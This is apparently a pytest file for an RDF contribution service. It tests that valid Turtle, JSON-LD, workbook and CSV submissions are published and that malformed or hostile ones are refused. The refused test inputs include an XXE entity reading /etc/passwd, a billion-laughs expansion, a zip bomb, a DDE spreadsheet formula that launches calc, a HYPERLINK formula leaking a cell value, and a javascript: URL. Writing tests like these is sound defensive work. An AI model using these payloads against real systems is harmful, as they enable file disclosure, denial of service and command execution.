"""Contributions over HTTP: ten good ones are published, forty bad ones are told what to mend."""

import gzip
import io
import json
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from desks import CLAIM, CORRECTION, PREFIXES, parsed
from offices import TURTLE, Service
from pyoxigraph import Dataset, Quad, RdfFormat, serialize

from trilogue.terms import Vocabulary

ROOT = Path(__file__).parents[2]
V = Vocabulary()
COLUMNS = (
    *("IRI", "Preferred label@en", "Gloss@en", "Voice", "About an actor", "Day", "Evidence"),
    "Verification mark",
)
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def rdf(fmt: RdfFormat) -> bytes:
    quads = [Quad(q.subject, q.predicate, q.object) for q in parsed(CLAIM).quads]
    data = serialize(quads, format=fmt)
    assert data is not None
    return data


def workbook(*, claim_label: str = "The network asks for a pause") -> bytes:
    book = openpyxl.Workbook()
    claims = book.active
    assert claims is not None
    claims.title = "Claim"
    claims.append([*COLUMNS])
    claims.append(
        [
            "claim:pause",
            claim_label,
            "It wants the talks to stop for a while.",
            "European Digital Rights",
            "France",
            "2023-12-09",
            "excerpt:page-second",
            "mark:verified-page",
        ]
    )
    excerpts = book.create_sheet("Excerpt")
    excerpts.append(["IRI", "Source", "Locator", "Verification mark"])
    excerpts.append(
        ["excerpt:page-second", "A page of December 2023", "second paragraph", "mark:verified-page"]
    )
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def csv(**changes: str) -> bytes:
    """One claim with an excerpt that is there."""
    values = dict(
        zip(
            COLUMNS,
            [
                "claim:pause",
                "A pause",
                "It wants the talks to stop.",
                "actor:edri",
                "actor:france",
                "2023-12-09",
                "excerpt:page",
                "mark:verified-page",
            ],
            strict=True,
        )
    )
    values.update({name.replace("_", " "): value for name, value in changes.items()})
    line = ",".join('"' + value.replace('"', '""') + '"' for value in values.values())
    return f"{','.join(values)}\r\n{line}\r\n".encode()


def canonical(quads: object) -> set[str]:
    return {f"{q.subject} {q.predicate} {q.object}" for q in quads}  # type: ignore[attr-defined]


GOOD: dict[str, tuple[str, Callable[[], bytes]]] = {
    "turtle": (TURTLE, (PREFIXES + CLAIM).encode),
    "turtle with a byte order mark": (
        TURTLE,
        lambda: b"\xef\xbb\xbf" + (PREFIXES + CLAIM).encode(),
    ),
    "turtle with the type's parameter": (
        "text/turtle; charset=UTF-8",
        (PREFIXES + CLAIM).encode,
    ),
    "turtle in another order": (
        TURTLE,
        (PREFIXES + "\n".join(reversed(CLAIM.split("\n\n")))).encode,
    ),
    "trig": ("application/trig", lambda: rdf(RdfFormat.TRIG)),
    "n-triples": ("application/n-triples", lambda: rdf(RdfFormat.N_TRIPLES)),
    "n-quads": ("application/n-quads", lambda: rdf(RdfFormat.N_QUADS)),
    "json-ld": ("application/ld+json", lambda: rdf(RdfFormat.JSON_LD)),
    "rdf/xml": ("application/rdf+xml", lambda: rdf(RdfFormat.RDF_XML)),
    "workbook": (XLSX, workbook),
}


@pytest.mark.parametrize("name", GOOD)
def test_a_good_one_is_published_as_it_was_handed_in(service: Service, name: str) -> None:
    media_type, data = GOOD[name]

    response = service.post("/contributions", data(), "ada", content_type=media_type)
    assert response.status_code == 201, response.get_data(as_text=True)
    digest = response.get_json()["digest"]
    assert response.headers["Location"] == f"/contributions/{digest}"
    accepted = service.post(f"/contributions/{digest}/accept", {"reason": "Seen."}, "bea")

    assert accepted.status_code == 200, accepted.get_data(as_text=True)
    assert accepted.get_json()["state"] == "published"
    graph = V.graph(f"contributions/{accepted.get_json()['steps'][1]['at'][:4]}/{digest}")
    exported = service.client.get(f"/graphs?graph={graph.value}&format=nt").data
    stored = Dataset(service.engine.store.quads(graph_name=graph))
    own = {
        line
        for line in canonical(stored)
        if "recordedIn" not in line and "/id/contribution/" not in line
    }
    assert own == canonical(parsed(CLAIM).quads)
    assert exported.count(b"\n") == len(stored)
    # What everybody sees is the same triples.
    public = service.get(f"/contributions/{digest}", accept="application/n-triples")
    assert sorted(public.data.splitlines()) == sorted(rdf(RdfFormat.N_TRIPLES).splitlines())


def test_a_sheet_as_csv_is_published(service: Service) -> None:
    response = service.post(
        "/contributions",
        {"file": (io.BytesIO(csv()), "claim.csv"), "licence": "cc0", "note": "From the page."},
        "ada",
        content_type="multipart/form-data",
    )

    assert response.status_code == 201, response.get_data(as_text=True)
    told = response.get_json()
    assert told["licence"] == "https://creativecommons.org/publicdomain/zero/1.0/"
    assert told["note"] == "From the page."
    accepted = service.post(f"/contributions/{told['digest']}/accept", None, "bea")
    assert accepted.get_json()["state"] == "published"


ENTITIES = (
    '<!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>'
)
OUTSIDE = '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
RDF_XML = (
    '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"'
    ' xmlns:skos="http://www.w3.org/2004/02/skos/core#">'
    f'<rdf:Description rdf:about="{V.base}id/claim/pause"><skos:note>&{{}};</skos:note>'
    "</rdf:Description></rdf:RDF>"
)


def bomb() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", b" " * 60_000_000)
        archive.writestr("xl/workbook.xml", b"<a>" + b" " * 60_000_000)
    return out.getvalue()


def formulas() -> bytes:
    return workbook(claim_label='=HYPERLINK("https://example.org/?"&A1,"pause")')


def changed(old: str, new: str) -> Callable[[], bytes]:
    assert old in CLAIM
    return (PREFIXES + CLAIM.replace(old, new)).encode


def added(text: str) -> Callable[[], bytes]:
    return (PREFIXES + CLAIM + text).encode


# Name: media type, body, status, what the answer says, and the line of the text after the prefixes
# or the cell that it names.
BAD: dict[str, tuple[str, Callable[[], bytes], int, str, object]] = {
    # what may be said at all
    "a term that is not there": (
        TURTLE,
        changed("tri:claimedBy", "tri:claimdBy"),
        422,
        "tri:claimedBy",
        5,
    ),
    "a class that is not there": (TURTLE, changed("tri:Claim ;", "tri:Clam ;"), 422, "Clam", 1),
    "a property of elsewhere": (
        TURTLE,
        added('claim:pause <https://schema.org/name> "x" .'),
        422,
        "Unknown property",
        14,
    ),
    "owl:sameAs": (TURTLE, added("claim:pause owl:sameAs claim:deal ."), 422, "owl:sameAs", 14),
    "a shape": (TURTLE, added("shape:Mine a sh:NodeShape ."), 422, "may not describe", 14),
    "a class of one's own": (
        TURTLE,
        added('tri:Mine a owl:Class ; rdfs:label "mine"@en .'),
        422,
        "may not describe",
        14,
    ),
    "a derived term": (
        TURTLE,
        added("claim:pause tri:contradictsClaim claim:deal ."),
        422,
        "computed",
        14,
    ),
    "a blank node": (
        TURTLE,
        changed("tri:evidencedBy excerpt:page-second", 'tri:evidencedBy [ tri:locator "x" ]'),
        422,
        "IRI",
        7,
    ),
    "a triple term": (
        "application/n-triples",
        (
            f"<{V.base}id/claim/pause> <{V.base}ns/aboutAssertable> "
            f'<<( <{V.base}id/claim/deal> <{V.base}ns/gloss> "x" )>> .\n'
        ).encode,
        422,
        "riple",
        None,
    ),
    "a named graph": (
        "application/trig",
        (PREFIXES + "GRAPH <urn:mine> { " + CLAIM + " }").encode,
        422,
        "without a name",
        None,
    ),
    "a change of what is there": (
        TURTLE,
        added('claim:deal skos:note "And more."@en .'),
        422,
        "described already",
        14,
    ),
    "somebody else's namespace": (
        TURTLE,
        added('<https://example.org/x> a tri:Claim ; skos:prefLabel "x"@en .'),
        422,
        "may not describe",
        14,
    ),
    "a kind": (
        TURTLE,
        added('practice:mine a tri:Practice ; skos:prefLabel "mine"@en .'),
        422,
        "may not describe",
        14,
    ),
    "its own provenance": (
        TURTLE,
        added("claim:pause tri:recordedIn contribution:founding ."),
        422,
        "is published",
        14,
    ),
    "its own reviewer": (
        TURTLE,
        added("contribution:mine a tri:Contribution ; tri:reviewedBy contributor:bea ."),
        422,
        "is published",
        14,
    ),
    # what it means
    "no evidence": (
        TURTLE,
        changed("tri:evidencedBy excerpt:page-second ;", ""),
        422,
        "evidence",
        1,
    ),
    "no voice": (TURTLE, changed("tri:claimedBy actor:edri ;", ""), 422, "claimedBy", 1),
    "no English label": (TURTLE, changed('pause"@en', 'pause"@fr'), 422, "prefLabel", 2),
    "a date that is none": (TURTLE, changed("2023-12-09", "2023-13-09"), 422, "date", 6),
    "a date before its source": (TURTLE, changed("2023-12-09", "2023-12-12"), 422, "earlier", 1),
    "a thing of the wrong class": (
        TURTLE,
        changed("tri:claimedBy actor:edri", "tri:claimedBy source:page"),
        422,
        "claimedBy",
        5,
    ),
    "a thing that is nowhere": (
        TURTLE,
        changed("actor:france", "actor:atlantis"),
        422,
        "described nowhere",
        4,
    ),
    "an excerpt of no source": (
        TURTLE,
        changed("tri:excerptOf source:page ;", ""),
        422,
        "excerptOf",
        10,
    ),
    "a gloss that is too long": (
        TURTLE,
        changed("It wants the talks to stop for a while.", "word " * 100),
        422,
        "gloss",
        3,
    ),
    "a whole document in a literal": (
        TURTLE,
        changed("It wants the talks to stop for a while.", "word " * 1_000),
        422,
        "characters",
        3,
    ),
    "an invisible character": (
        TURTLE,
        changed("a while", "a\u202ewhile"),
        422,
        "invisible",
        3,
    ),
    "an address that no browser should follow": (
        TURTLE,
        added("claim:pause skos:closeMatch <javascript:alert(1)> ."),
        422,
        "web address",
        14,
    ),
    "a claim that supersedes an actor": (
        TURTLE,
        added("claim:pause tri:supersedesRecord actor:edri ."),
        422,
        "another class",
        5,
    ),
    # what can be read at all
    "no statement": (TURTLE, lambda: b"# nothing", 422, "says nothing", None),
    "no Turtle": (TURTLE, changed("tri:mark", "tri:mark tri:mark"), 422, "body.ttl", 8),
    "bytes that are no UTF-8": (
        TURTLE,
        lambda: (PREFIXES + CLAIM).replace("pause", "pausé").encode("latin-1"),
        422,
        "UTF-8",
        None,
    ),
    "UTF-16": (TURTLE, lambda: (PREFIXES + CLAIM).encode("utf-16"), 422, "UTF-8", None),
    "a charset that is not spoken": (
        "text/turtle; charset=latin-1",
        lambda: (PREFIXES + CLAIM).encode("latin-1"),
        400,
        "charset",
        None,
    ),
    "a remote context": (
        "application/ld+json",
        lambda: json.dumps(
            {"@context": "https://example.org/context", "@id": f"{V.base}id/claim/pause"}
        ).encode(),
        422,
        "context",
        None,
    ),
    "an entity from a file": (
        "application/rdf+xml",
        (OUTSIDE + RDF_XML.format("x")).encode,
        422,
        "document type",
        None,
    ),
    "entities that multiply": (
        "application/rdf+xml",
        (ENTITIES + RDF_XML.format("c")).encode,
        422,
        "document type",
        None,
    ),
    "a body of 50 MB": (TURTLE, lambda: b"# " + b"x" * 50_000_000, 413, "", None),
    "a format that is not read": ("application/pdf", lambda: b"%PDF-1.7", 415, "text/turtle", None),
    "compressed Turtle": (
        "application/gzip",
        lambda: gzip.compress((PREFIXES + CLAIM).encode()),
        415,
        "gzip",
        None,
    ),
    # sheets
    "a formula": (XLSX, formulas, 422, "ormula", "Claim!B2"),
    "a formula as CSV": (
        "text/csv",
        lambda: csv(**{"Gloss@en": "=cmd|' /C calc'!A1"}),
        422,
        "ormula",
        "C2",
    ),
    "a workbook that unpacks to 120 MB": (XLSX, bomb, 422, "unpack", None),
    "a workbook that is none": (XLSX, lambda: b"PK\x03\x04 nothing", 422, "workbook", None),
    "a label that nothing has": (
        "text/csv",
        lambda: csv(Voice="Nobody Whom We Know"),
        422,
        "Nobody Whom We Know",
        "D2",
    ),
    "a day that is none": ("text/csv", lambda: csv(Day="yesterday"), 422, "yesterday", "F2"),
    "a column that is not there": (
        "text/csv",
        lambda: csv(Colour="blue"),
        422,
        "Colour",
        "I1",
    ),
    "texts made to hold up a pattern": (
        TURTLE,
        changed("It wants the talks to stop for a while.", "a" * 1_900 + "!"),
        422,
        "gloss",
        3,
    ),
}


def test_there_are_forty_bad_ones() -> None:
    assert len(BAD) >= 40


@pytest.mark.parametrize("name", BAD)
def test_a_bad_one_is_refused_and_leaves_nothing(service: Service, name: str) -> None:
    media_type, make, status, words, place = BAD[name]
    before = set(map(str, service.engine.store.quads()))
    data = make()
    if media_type == "text/csv":
        form = {"file": (io.BytesIO(data), "claim.csv")}
        response = service.post("/contributions", form, "ada", content_type="multipart/form-data")
    else:
        response = service.post("/contributions", data, "ada", content_type=media_type)

    assert response.status_code == status, response.get_data(as_text=True)
    assert response.content_type == "application/problem+json"
    problem = response.get_json()
    text = json.dumps(problem, ensure_ascii=False)
    assert words in text
    if place is not None:
        key, wanted = "cell", place
        if isinstance(place, int):
            key, wanted = "line", PREFIXES.count("\n") + place
        told = [result[key] for result in problem["results"] if words in json.dumps(result)]
        assert wanted in told, text
    assert service.waiting == 0
    assert set(map(str, service.engine.store.quads())) == before
    assert not list((service.content.root / "graph").glob("contributions/**/*.ttl"))
    # And the next one is taken as if nothing had been.
    assert service.submit()


def test_a_name_that_is_taken_is_a_warning_that_offers_the_record(service: Service) -> None:
    text = PREFIXES + CLAIM.replace("The network asks for a pause", "A deal was struck")

    response = service.post("/validate", text, content_type=TURTLE)

    assert response.status_code == 200
    told = response.get_json()
    assert told["conforms"]
    (warning,) = (each for each in told["results"] if each["severity"] == "Warning")
    assert "claim:deal" in warning["message"] + (warning["remedy"] or "")


@pytest.mark.parametrize(
    ("accept", "words"),
    [
        ("application/json", '"conforms": false'),
        ("text/turtle", "sh:conforms false"),
        ("application/sarif+json", '"version": "2.1.0"'),
        ("text/plain", "does not conform (one violation"),
        ("text/html", "It does not conform yet"),
    ],
)
def test_a_dry_run_is_answered_in_every_form(service: Service, accept: str, words: str) -> None:
    text = PREFIXES + CLAIM.replace("tri:claimedBy actor:edri ;", "")

    response = service.post("/validate", text, content_type=TURTLE, headers={"Accept": accept})

    assert response.status_code == 200
    assert response.mimetype == accept
    assert words in response.get_data(as_text=True).replace("1 violation", "one violation")
    assert response.headers["Cache-Control"] == "private, no-store"
    assert service.waiting == 0


def test_findings_are_told_in_the_language_that_is_liked(service: Service) -> None:
    text = PREFIXES + CLAIM.replace("tri:claimedBy actor:edri ;", "")
    german = {"Accept-Language": "de-AT,de;q=0.9,en;q=0.5"}

    def told(address: str, who: str | None = None, **headers: str) -> Any:
        return service.post(address, text, who, content_type=TURTLE, headers=headers)

    by_header = told("/validate", **german)
    assert by_header.headers["Content-Language"] == "de"
    english = told("/validate").get_json()["results"]
    messages = [result["message"] for result in by_header.get_json()["results"]]
    assert len(messages) == len(english)
    assert all(one != result["message"] for one, result in zip(messages, english, strict=True))
    by_parameter = told("/validate?language=es", **german)
    assert by_parameter.headers["Content-Language"] == "es"
    refused = told("/contributions", "ada", **german)
    assert refused.status_code == 422
    assert refused.get_json()["results"][0]["message"] == messages[0]
    assert messages[0] in refused.get_json()["detail"]
    assert told("/validate?language=xx").status_code == 400
    assert told("/validate", **{"Accept-Language": "ja"}).headers["Content-Language"] == "en"


def test_who_may_do_what(service: Service) -> None:
    text = PREFIXES + CLAIM
    for who, status in ((None, 401), ("dan", 403)):
        response = service.post("/contributions", text, who, content_type=TURTLE)
        assert response.status_code == status
    digest = service.submit()
    address = f"/contributions/{digest}"
    assert service.post(f"{address}/accept", None, "ada").status_code == 403
    again = service.post(f"{address}/accept", None, "ada again")
    assert again.status_code == 403
    assert again.get_json()["type"] == "/problems#own-contribution"
    assert service.get(address).status_code == 404
    assert service.get(address, "dan").status_code == 404
    assert service.get(address, "ada").status_code == 200
    assert service.get(address, "bea").get_json()["state"] == "pending"
    assert service.post(f"{address}/burn", None, "bea").status_code == 400
    assert service.post(f"{address}/accept", None, "bea").status_code == 200
    late = service.post(f"{address}/decline", {"reason": "No."}, "cyd")
    assert late.status_code == 409
    assert late.get_json()["state"] == "published"
    assert service.get(address).status_code == 200


def test_a_conversation_and_a_retraction(service: Service) -> None:
    digest = service.submit()
    address = f"/contributions/{digest}"
    assert service.post(f"{address}/ask", json={"reason": "Where?"}, who="bea").status_code == 200
    assert service.post(f"{address}/answer", {"reason": "Below."}, "ada").status_code == 200
    assert service.post(f"{address}/accept", None, "bea").status_code == 200
    later = service.submit(CORRECTION)
    assert service.post(f"/contributions/{later}/accept", None, "cyd").status_code == 200
    used = service.post(f"{address}/retract", {"reason": "Wrong."}, "bea")
    assert used.status_code == 409
    assert used.get_json()["records"] == [f"{V.base}id/claim/pause-of-a-month"]
    gone = service.post(f"/contributions/{later}/retract", {"reason": "Forged."}, "bea")
    assert gone.get_json()["state"] == "retracted"
    for address in ("/id/claim/pause-of-a-month", "/data/id/claim/pause-of-a-month.ttl"):
        stone = service.get(address)
        assert stone.status_code == 410
        assert stone.get_json()["reason"] == "Forged."
    page = service.get("/page/id/claim/pause-of-a-month", accept="text/html")
    assert page.status_code == 410
    assert "Forged." in page.get_data(as_text=True)
    public = service.get(f"/contributions/{later}").get_json()
    assert public["records"] == []
    assert [step["act"] for step in public["steps"]] == [
        "submitted",
        "accepted",
        "published",
        "retracted",
    ]


def test_a_question_walks_from_a_record_to_everything_behind_it(service: Service) -> None:
    digest = service.submit()
    address = f"/contributions/{digest}"
    service.post(f"{address}/ask", {"reason": "Where?"}, "bea")
    service.post(f"{address}/answer", {"reason": "Below."}, "ada")
    assert service.post(f"{address}/accept", None, "bea").status_code == 200
    later = service.submit(CORRECTION)
    assert service.post(f"/contributions/{later}/accept", None, "cyd").status_code == 200

    def rows(record: str) -> list[dict[str, str]]:
        answer = service.get(f"/questions/history-of-a-record?record={record}").get_json()
        return [{name: cell["value"] for name, cell in row.items()} for row in answer["rows"]]

    told = rows("claim:pause")
    steps = [(row["step"].rpartition("/")[2], row["who"].rpartition("/")[2]) for row in told]
    assert sorted(steps) == [
        ("accepted", "bea"),
        ("answered", "ada"),
        ("asked", "bea"),
        ("published", "bea"),
        ("submitted", "ada"),
        ("superseded", "cyd"),
    ]
    for row in told:
        assert row["contributor"] == f"{V.base}id/contributor/ada"
        assert row["reviewer"] == f"{V.base}id/contributor/bea"
        assert row["source"] == f"{V.base}id/source/page"
        assert row["place"] == "second paragraph"
        assert row["digest"] == digest
        assert row["replacedBy"] == f"{V.base}id/claim/pause-of-a-month"
    (correction, *_) = rows("claim:pause-of-a-month")
    assert correction["replaces"] == f"{V.base}id/claim/pause"
    # An excerpt has no other that backs it: it is a place itself.
    assert {row["place"] for row in rows("excerpt:page-second")} == {"second paragraph"}


def test_the_pages_show_records_effect_and_what_may_be_done(service: Service) -> None:
    digest = service.submit()
    for who, words in (("bea", "Accept and publish"), ("ada", "Withdraw")):
        page = service.get(f"/contributions/{digest}", who, "text/html")
        text = page.get_data(as_text=True)
        assert page.status_code == 200
        assert words in text
        assert "The network asks for a pause" in text
        assert "No legal status changes" in text
        assert page.headers["Cache-Control"] == "private, no-store"
    assert "Accept and publish" not in service.get(
        f"/contributions/{digest}", "ada", "text/html"
    ).get_data(as_text=True)
    listed = service.get("/contributions", "bea", "text/html").get_data(as_text=True)
    assert digest[:12] in listed


SOURCE = """\
source:other a tri:Source ;
    skos:prefLabel "Another page of December 2023"@en ;
    tri:mark mark:verified-page ;
    tri:publishedBy actor:edri ;
    tri:publishedOn "2023-12-10"^^xsd:date ;
    tri:sourceClass source-class:ngo-page .
"""


def page_of(service: Service, address: str, who: str | None) -> str:
    response = service.get(address, who, "text/html")
    assert response.status_code == 200, response.get_data(as_text=True)
    return str(response.get_data(as_text=True))


def test_reviewers_find_what_waits_at_review(service: Service) -> None:
    digest = service.submit()
    own = service.submit(SOURCE, "bea")

    queue = page_of(service, "/review", "bea")

    assert digest[:12] in queue
    assert "you: somebody else decides" in queue
    assert queue.count("waits for a reviewer</td>") == 3  # that of bea stands among her own, too
    kinds = page_of(service, "/review?kind=Source", "bea")
    assert digest[:12] not in kinds
    assert own[:12] in kinds
    assert digest[:12] not in page_of(service, "/review?state=declined", "bea")
    listed = service.get("/review?kind=Claim", "bea").get_json()["contributions"]
    assert [each["digest"] for each in listed] == [digest]
    led = service.get(f"/review/{digest}", None, "text/html")
    assert (led.status_code, led.headers["Location"]) == (303, f"/contributions/{digest}")


def test_review_is_for_reviewers(service: Service) -> None:
    assert service.get("/review", "ada").status_code == 403
    assert service.get("/review").status_code == 401
    assert service.get("/review", None, "text/html").status_code == 303
    assert service.get("/review?kind=Nothing", "bea").status_code == 400
    assert service.get("/review?who=ada", "bea").status_code == 400


def test_the_page_says_in_words_what_would_change(service: Service) -> None:
    digest = service.submit()

    page = " ".join(page_of(service, f"/contributions/{digest}", "bea").split())

    assert "It adds 12 statements about 2 records. Nothing that is there is taken away." in page
    assert "excerpt:page-second a tri:Excerpt" in page
    sources = page[page.index('id="sources"') : page.index('id="check"')]
    for words in ("It wants the talks to stop", "second paragraph", "A page of December 2023"):
        assert words in sources
    assert "no violation" in page
    assert "No other thing of the same type bears the same name" in page
    # A stranger sees nothing, and who contributed is not offered to decide.
    assert service.get(f"/contributions/{digest}", None, "text/html").status_code == 404
    receipt = page_of(service, f"/contributions/{digest}", "ada")
    assert "This page is your receipt" in receipt
    assert "/accept" not in receipt
    assert "/withdraw" in receipt


def test_a_name_that_is_taken_is_told_to_the_reviewer(service: Service) -> None:
    taken = CLAIM.replace("The network asks for a pause", "A deal was struck")
    digest = service.submit(taken)

    page = page_of(service, f"/contributions/{digest}", "bea")

    part = page[page.index("Likely duplicates") :]
    assert 'href="/page/id/claim/deal"' in part[: part.index("</ul>")]


def test_a_step_that_is_not_taken_keeps_the_reason_that_was_typed(service: Service) -> None:
    digest = service.submit()
    browser = {"Accept": "text/html"}

    refused = service.post(f"/contributions/{digest}/ask", {"reason": " "}, "bea", headers=browser)
    page = refused.get_data(as_text=True)

    assert refused.status_code == 400
    assert "<title>Error: " in page
    assert 'href="#reason"' in page
    assert 'aria-invalid="true"> </textarea>' in page
    assert service.post(f"/contributions/{digest}/accept", None, "bea").status_code == 200
    again = service.post(
        f"/contributions/{digest}/decline", {"reason": "Too <b>late</b>."}, "cyd", headers=browser
    )
    assert again.status_code == 409
    assert "Too &lt;b&gt;late&lt;/b&gt;." in again.get_data(as_text=True)
    own = service.post(
        f"/contributions/{digest}/retract", {"reason": "Mine."}, "ada again", headers=browser
    )
    assert own.status_code == 403
    assert "somebody else decides" in own.get_data(as_text=True)
